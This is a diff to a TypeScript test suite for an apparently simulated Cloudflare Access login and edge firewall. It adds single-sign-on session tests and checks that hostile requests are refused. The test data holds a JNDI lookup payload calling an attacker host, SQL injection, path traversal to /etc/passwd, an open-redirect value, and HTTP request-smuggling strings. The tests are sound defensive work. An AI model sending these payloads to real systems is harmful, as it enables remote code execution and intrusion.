@@ -49,13 +49,14 @@ async function code(email: string, from = france): Promise<{ page: Got; nonce: s
   };
 }
 
-async function cookie(email = "ada@example.org"): Promise<{ cookie: string; set: string; location: string | undefined }> {
+async function cookie(email = "ada@example.org"): Promise<{ cookie: string; set: string; location: string | undefined; team: string }> {
   const sent = await code(email);
   const form = { nonce: sent.nonce, code: sent.code ?? "" };
   const right = await ask("home.cloudflareaccess.com/cdn-cgi/access/callback", { form });
   const entered = await ask((right.headers.location ?? "").replace("https://", ""));
   const [set = ""] = entered.headers["set-cookie"] ?? [];
-  return { cookie: set.split(";")[0] ?? "", set, location: entered.headers.location };
+  const team = right.headers["set-cookie"]?.[0]?.split(";")[0] ?? "";
+  return { cookie: set.split(";")[0] ?? "", set, location: entered.headers.location, team };
 }
 
 describe("the login", () => {
@@ -135,6 +136,19 @@ describe("the login", () => {
     expect(await by("media.example.org/")).toEqual([302, "access: login"]);
   });
 
+  it("is asked for once: the team's own session opens what else the address may see, and nothing more", async () => {
+    const opened = async (email: string): Promise<Got> => {
+      const { team } = await cookie(email);
+      const toLogin = await ask("git.example.org/");
+      return ask((toLogin.headers.location ?? "").replace("https://", ""), { headers: { cookie: team } });
+    };
+    const back = await opened("ada@example.org");
+    expect(back.headers.location).toMatch(/^https:\/\/git\.example\.org\/cdn-cgi\/access\/authorized\?word=/);
+    const entered = await ask((back.headers.location ?? "").replace("https://", ""));
+    expect(entered.headers["set-cookie"]?.[0]).toContain("Max-Age=43200");
+    expect([(await opened("bob@example.org")).status, last()?.by]).toEqual([403, "access: denied"]);
+  });
+
   it("sends nobody elsewhere", async () => {
     const login = await ask("home.cloudflareaccess.com/cdn-cgi/access/login/media.example.org?redirect_url=//evil.example/");
     expect(login.body).toContain('name="redirect_url" value="/"');
@@ -152,6 +166,7 @@ describe("rules", () => {
     ["git.example.org/", { method: "TRACE" }, 403, "custom rule rempart_probes"],
     ["media.example.org/?q=1%27%20OR%20%271%27%3D%271", {}, 403, "managed rules: SQL injection"],
     ["media.example.org/?file=../../etc/passwd", {}, 403, "managed rules: traversal"],
+    ["media.example.org/", { headers: { "x-api-version": `\${jndi:ldap://attacker.invalid/a}` } }, 403, "managed rules: lookup"],
     ["media.example.org/%zz", {}, 403, "managed rules: malformed"],
     ["media.example.org/", { headers: { "user-agent": "GPTBot/1.2" } }, 403, "bots: collector for language models"],
     ["media.example.org/", { headers: { host: "other.example.org" } }, 403, "no such name"],
@@ -175,12 +190,18 @@ describe("rules", () => {
     expect((await login()).status).toBe(302);
   });
 
-  it("answer what is not HTTP with 400", async () => {
-    const answer = await new Promise<string>((resolve) => {
-      const socket = connect(running.edge.port("http"), "127.0.0.1", () => socket.write("GET / HTTP/9\r\n\r\n"));
-      socket.once("data", (data) => resolve(String(data)));
+  it.each([
+    ["what is not HTTP", "GET / HTTP/9\r\n\r\n", 400],
+    ["two names of a host", "GET / HTTP/1.1\r\nHost: media.example.org\r\nHost: other.example.org\r\n\r\n", 400],
+    ["two lengths of a body", "POST / HTTP/1.1\r\nHost: a\r\nContent-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n", 400],
+    ["too long a header", `GET / HTTP/1.1\r\nHost: a\r\nX-Long: ${"a".repeat(20_000)}\r\n\r\n`, 431],
+  ])("refuse %s", async (_what, text, status) => {
+    const answer = await new Promise<string>((resolve, reject) => {
+      const socket = connect(running.edge.port("http"), "127.0.0.1", () => socket.write(text));
+      socket.once("error", reject).once("data", (data) => resolve(String(data)));
     });
-    expect([answer.split("\r\n")[0], last()?.by]).toEqual(["HTTP/1.1 400 Bad Request", "malformed request"]);
+    expect([answer.split(" ")[1], last()?.by]).toEqual([String(status), "malformed request"]);
+    expect(answer).toMatch(/^cf-ray: /im);
   });
 });
 
